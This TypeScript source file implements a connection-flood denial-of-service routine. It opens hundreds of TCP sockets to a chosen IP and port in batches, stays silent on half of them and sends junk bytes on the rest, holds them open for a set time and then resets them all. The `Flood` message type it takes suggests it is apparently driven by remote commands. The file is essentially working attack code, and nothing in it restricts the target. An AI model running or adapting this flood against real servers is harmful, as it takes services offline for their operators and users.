import { connect, type Socket } from 'node:net';
import type { Flood } from './messages.ts';

/** Opened at a time: more than a backlog of 511, which is Node's and nginx's, would wait for the kernel and not for us. */
const BATCH = 200;

/** Opens connections, says nothing on half of them and nonsense on the others, and resets them all when the time is over. */
export async function flood({ ip, port, count, seconds }: Flood): Promise<void> {
  const end = Date.now() + seconds * 1000;
  const sockets: Socket[] = [];
  while (sockets.length < count && Date.now() < end) {
    for (let number = 0; number < BATCH && sockets.length < count; number += 1) sockets.push(open(ip, port, number));
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  await new Promise((resolve) => setTimeout(resolve, Math.max(0, end - Date.now())));
  for (const socket of sockets) socket.resetAndDestroy();
}

function open(host: string, port: number, number: number): Socket {
  const socket = connect({ host, port });
  socket.on('error', () => undefined);
  if (number % 2 === 0) socket.on('connect', () => socket.write('\u0016\u0003 nonsense\r\n'.repeat(number)));
  return socket.resume();
}
